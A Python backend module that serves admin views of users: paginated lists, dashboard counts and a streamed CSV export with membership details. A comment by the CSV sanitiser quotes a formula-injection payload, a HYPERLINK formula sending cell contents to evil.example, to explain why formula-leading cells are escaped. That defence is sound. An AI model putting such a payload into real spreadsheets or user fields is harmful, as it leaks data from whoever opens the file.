"""What admins read about many users: pages, totals, counts, the CSV export.

Lists are ordered newest first (created_at, then id, so pages never shift between equal
timestamps). On Postgres a page and its count are one statement each whose JSON Postgres
builds (services/users/json_reads.py); the schema path here answers on SQLite, serves the
CSV export and the single-user reads, and is what the JSON is held equal to in tests.
"""

import csv
import io
import math
from collections.abc import AsyncIterator, Sequence
from datetime import datetime
from typing import Any

import sqlalchemy as sa
from pydantic import TypeAdapter
from sqlmodel.ext.asyncio.session import AsyncSession

from db.engine import SessionFactory
from db.models import (
    User,
)
from db.reads import Reader
from db.types import ApprovalStatus
from schemas.users import (
    AdminUser,
    AdminUserQuery,
    UserCounts,
    UserPages,
)
from services.identity.admin_scope import Scope, Targets
from services.identity.tokens import refuse_deactivated
from services.kit.cache import TtlCache
from services.memberships.kinds import KINDS, Kind
from services.users import json_reads
from services.users.admin_search import (
    AUTOMATIC,
    Selection,
    select_users,
    u,
    updater,
    where_clauses,
)

EXPORT_BATCH = 500
ORDER = (u.c.created_at.desc(), u.c.id.desc())
LIST_COLUMNS = (u.c.id, u.c.email, u.c.username, u.c.email_verified, u.c.created_at, u.c.is_deleted)


ADMIN_USERS = TypeAdapter(list[AdminUser])


async def page_body(
    session: AsyncSession,
    reader: Reader,
    scope: Scope,
    query: AdminUserQuery,
    cache: TtlCache[Targets] | None = None,
) -> bytes:
    """`GET /admin/users` as JSON bytes, for a caller whose deactivation is not yet
    checked (routers/deps.ClaimedAdminScopeDep); `cache` as for `select_users`."""
    selection = await select_users(session, scope, query, cache)
    if reader.dialect == "postgresql":
        return await json_reads.admin_list(reader, scope, selection)
    await refuse_deactivated(session, scope.caller_id)
    return ADMIN_USERS.dump_json(await list_users(session, scope, selection))


async def pages_body(
    session: AsyncSession,
    reader: Reader,
    scope: Scope,
    query: AdminUserQuery,
    cache: TtlCache[Targets] | None = None,
) -> bytes:
    """`GET /admin/users/pages` as JSON bytes (as `page_body`)."""
    selection = await select_users(session, scope, query, cache)
    if reader.dialect == "postgresql":
        return await json_reads.admin_pages(reader, scope, selection)
    await refuse_deactivated(session, scope.caller_id)
    return (await pages(session, scope, selection)).model_dump_json().encode()


async def list_users(session: AsyncSession, scope: Scope, selection: Selection) -> list[AdminUser]:
    query = selection.query
    statement = (
        sa.select(*LIST_COLUMNS)
        .where(*where_clauses(scope, selection))
        .order_by(*ORDER)
        .limit(query.per_page)
        .offset((query.page - 1) * query.per_page)
    )
    rows = (await session.execute(statement)).all()
    return await with_memberships(session, scope, rows)


async def pages(session: AsyncSession, scope: Scope, selection: Selection) -> UserPages:
    total = await session.scalar(
        sa.select(sa.func.count()).select_from(u).where(*where_clauses(scope, selection))
    )
    per_page = selection.query.per_page
    return UserPages(total=total or 0, pages=math.ceil((total or 0) / per_page), per_page=per_page)


async def export_csv(
    factory: SessionFactory, scope: Scope, selection: Selection
) -> AsyncIterator[str]:
    """The whole filtered list as CSV, streamed: its own read-only session (the request's
    has ended by the time the body is sent), keyset batches so memory stays flat."""
    async with factory() as session:
        async for chunk in _export_rows(session, scope, selection):
            yield chunk


async def _export_rows(
    session: AsyncSession, scope: Scope, selection: Selection
) -> AsyncIterator[str]:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(
        [
            "id",
            "email",
            "username",
            "email_verified",
            "created_at",
            "platform_memberships",
            "group_memberships",
        ]
    )
    yield _drain(out)
    where = where_clauses(scope, selection)
    after: tuple[datetime, str] | None = None
    while True:
        statement = sa.select(*LIST_COLUMNS).where(*where).order_by(*ORDER).limit(EXPORT_BATCH)
        if after is not None:
            statement = statement.where(sa.tuple_(u.c.created_at, u.c.id) < sa.tuple_(*after))
        rows = (await session.execute(statement)).all()
        if not rows:
            return
        for user in await with_memberships(session, scope, rows):
            writer.writerow(
                [
                    safe_cell(user.id),
                    safe_cell(user.email or ""),
                    safe_cell(user.username or ""),
                    "true" if user.email_verified else "false",
                    user.created_at.isoformat(),
                    safe_cell(
                        "; ".join(
                            f"{m.platform_id}:{m.approval_status}"
                            for m in user.platform_memberships
                        )
                    ),
                    safe_cell(
                        "; ".join(
                            f"{m.group_id}:{m.approval_status}" for m in user.group_memberships
                        )
                    ),
                ]
            )
        yield _drain(out)
        after = (rows[-1].created_at, rows[-1].id)


# A spreadsheet runs a cell starting with one of these as a formula: a sign-up named
# `=HYPERLINK("https://evil.example/?"&A1, "x")@…` would run on the admin's machine.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: str) -> str:
    """The value as text a spreadsheet shows rather than evaluates."""
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def _drain(buffer: io.StringIO) -> str:
    text = buffer.getvalue()
    buffer.seek(0)
    buffer.truncate()
    return text


async def with_memberships(
    session: AsyncSession, scope: Scope, rows: Sequence[sa.Row[Any]] | Sequence[User]
) -> list[AdminUser]:
    """Attach each user's memberships: the ones inside the caller's scope (everything
    for a general admin), with the deciding admin's email."""
    ids = [row.id for row in rows]
    if not ids:
        return []
    found: dict[str, dict[str, list[dict[str, Any]]]] = {
        kind.name: {i: [] for i in ids} for kind in KINDS
    }
    for kind in KINDS:
        if scope.covers(kind):
            for membership in await _memberships(session, scope, kind, ids):
                found[kind.name][membership["user_id"]].append(membership)
    return [
        AdminUser.model_validate(
            {
                "id": row.id,
                "email": row.email,
                "username": row.username,
                "email_verified": row.email_verified,
                "created_at": row.created_at,
                "is_deleted": row.is_deleted,
                "platform_memberships": found["platform"][row.id],
                "group_memberships": found["group"][row.id],
            }
        )
        for row in rows
    ]


async def _memberships(
    session: AsyncSession, scope: Scope, kind: Kind, user_ids: Sequence[str]
) -> list[dict[str, Any]]:
    """The page's memberships of one kind, named the way the API shapes name them.

    Plain columns, not ORM entities: this runs for every page, and entity loading cost
    more than the query."""
    table, catalog, history = kind.memberships, kind.catalog, kind.history
    # When it was last asked for (the portal's pending tooltip): the newest pending row of
    # its history.
    requested_at = (
        sa.select(sa.func.max(history.c.created_at))
        .where(
            history.c.membership_id == table.c.id,
            history.c.approval_status == ApprovalStatus.PENDING,
        )
        .scalar_subquery()
    )
    statement = (
        sa.select(
            table,
            catalog.c.name.label("target_name"),
            catalog.c.short_name.label("target_short_name"),
            updater.c.email.label("updater_email"),
            requested_at.label("requested_at"),
        )
        .join(catalog, catalog.c.id == kind.target)
        .outerjoin(updater, updater.c.id == table.c.updated_by_id)
        .where(table.c.user_id.in_(user_ids))
        .order_by(kind.target)
    )
    if not scope.everything:
        statement = statement.where(kind.target.in_(scope.targets(kind)))
    return [
        {
            **row,
            f"{kind.name}_name": row["target_name"],
            f"{kind.name}_short_name": row["target_short_name"],
            "updated_by": updated_by_label(row["updated_by_id"], row["updater_email"]),
        }
        for row in (await session.execute(statement)).mappings().all()
    ]


def updated_by_label(updated_by_id: str | None, email: str | None) -> str:
    # No one: the sync or a sign-up default made the change.
    return AUTOMATIC if updated_by_id is None else (email or updated_by_id)


# ---------------------------------------------------------------------------- counts


async def counts(
    session: AsyncSession, scope: Scope, cache: TtlCache[UserCounts] | None = None
) -> UserCounts:
    """The four dashboard figures in one statement of four scalar subqueries, each shaped
    to be answered from an index (see CONTRIBUTING, "Admin lists at scale").

    The dashboard asks on every page view and each figure walks up to every user, so
    each API process may reuse a caller's figures for ADMIN_COUNTS_CACHE_S seconds."""
    if cache is None:
        return await _counts(session, scope)
    key = (scope.caller_id, scope.everything, scope.platforms, scope.groups)
    return await cache.get(key, lambda: _counts(session, scope))


async def _counts(session: AsyncSession, scope: Scope) -> UserCounts:
    row = (
        await session.execute(
            sa.select(
                _count_members(scope, None).label("all"),
                _count_members(scope, ApprovalStatus.PENDING).label("pending"),
                _count_members(scope, ApprovalStatus.REVOKED).label("revoked"),
                _count_unverified(scope).label("unverified"),
            )
        )
    ).one()
    return UserCounts(
        all=row.all, pending=row.pending, revoked=row.revoked, unverified=row.unverified
    )


def _count_members(scope: Scope, status: ApprovalStatus | None) -> sa.ScalarSelect[int]:
    """Live users (not the caller) with a membership in scope, in `status` if given."""
    if scope.everything and status is None:
        return (
            sa.select(sa.func.count())
            .select_from(u)
            .where(sa.not_(u.c.is_deleted), u.c.id != scope.caller_id)
            .scalar_subquery()
        )
    parts = [scope.members(kind, status=status) for kind in KINDS if scope.covers(kind)]
    # One platform or group holds each user once; across several, UNION counts them once.
    single = not scope.everything and len(scope.platforms) + len(scope.groups) == 1
    members = (parts[0] if single else sa.union(*parts)).subquery("members")
    deleted = sa.exists().where(u.c.id == members.c.user_id, u.c.is_deleted)
    return (
        sa.select(sa.func.count())
        .select_from(members)
        .where(members.c.user_id != scope.caller_id, sa.not_(deleted))
        .scalar_subquery()
    )


def _count_unverified(scope: Scope) -> sa.ScalarSelect[int]:
    statement = (
        sa.select(sa.func.count())
        .select_from(u)
        .where(sa.not_(u.c.is_deleted), sa.not_(u.c.email_verified), u.c.id != scope.caller_id)
    )
    if not scope.everything:
        statement = statement.where(scope.membership_clause(u.c.id))
    return statement.scalar_subquery()
